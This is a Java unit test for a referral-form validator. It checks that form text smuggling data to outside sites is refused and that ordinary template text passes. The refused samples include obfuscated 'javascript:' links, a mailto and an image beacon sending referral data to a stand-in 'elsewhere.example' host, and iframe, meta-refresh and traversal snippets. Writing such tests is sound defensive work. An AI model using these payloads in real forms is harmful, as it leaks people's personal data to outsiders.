package org.projectharmony.referrals.models;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.util.Collection;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Forms that would send what they show to another site, in whatever disguise. */
class HostileFormTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    private final FormRules rules = new FormRules(new ModelParts());

    @ParameterizedTest
    @ValueSource(strings = {"[a](https://elsewhere.example/)", "[a](&#104;ttps://elsewhere.example)",
        "[a](&#x68;ttps&colon;&sol;&sol;elsewhere.example)", "[a](&amp;#104;ttps://elsewhere.example)",
        "[a](&#104ttps&#58&#47&#47elsewhere.example)", "[a](//elsewhere.example)", "[a](/&#47;elsewhere.example)",
        "[a](/%2felsewhere.example)", "[a](\\\\\\\\elsewhere.example)", "[a](/\\\\elsewhere.example)",
        "[a](mailto:thief@elsewhere.example?body={{referral.people}})", "[a](tel:0900123)", "[a](java&Tab;script:alert(1))",
        "[a](&#106;avascript:alert(1))", "[a](data:text/html,x)", "[a](sms:0900)", "[a](elsewhere.example)",
        "[a]({{referral.people}})", "[a]({{referral.link}}/x)", "{{\"https:\" + \"//elsewhere.example\"}}",
        "{{referral.people + referral.places}}", "{{string join([\"a\"])}}", "=\"[a](ht\" + \"tps:\" + \"//e.example)\"",
        "![a](https://elsewhere.example/{{referral.people}}.png)", "![a](elsewhere.png)", "[a][b]\n\n[b]: //elsewhere.example",
        "[b]: elsewhere.example", "<https://elsewhere.example>", "<thief@elsewhere.example>", "thief@elsewhere.example",
        "www.elsewhere.example", "https://elsewhere.example", "<a href='/x'>a</a>", "<img src=x>", "<iframe src=x>",
        "<base href=x>", "<meta http-equiv=refresh>", "<form action=x>", "&lt;img src=x&gt;", "< img src=x>",
        "[a](/referrals/../../evil)", "[a](/camunda/api/engine)", "[a](ht\u200Btps:/x)", "[a](/logout)"})
    void areRefused(String text) throws IOException {
        for (String words : new String[] {"text", "label", "description"}) {
            assertThat(faults(words, text)).as(words + " " + text).isNotEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"# Referral {{referral.reference}}", "[Open it](/referrals/{{referral.reference}}) now",
        "{{#if referral.risk != null}}**Risk:** {{referral.risk}}{{/if}}", "Less than 3 & more", "ASB Case Review (Legal)",
        "**Overdue:** {{#if overdueStep = \"answer\"}}the answer{{/if}}", "By 10:15, data: none", "50% of it", "a [b] c"})
    void letOrdinaryWordsIn(String text) throws IOException {
        assertThat(faults("text", text)).isEmpty();
    }

    private Collection<String> faults(String words, String text) throws IOException {
        ObjectNode form = (ObjectNode) JSON.readTree(ModelSet.ours().files().get("forms/answer-referral.form"));
        ((ObjectNode) form.path("components").get(0)).put(words, text);
        Faults faults = new Faults();
        rules.check("forms/answer-referral.form", form, faults);
        return faults.all();
    }
}
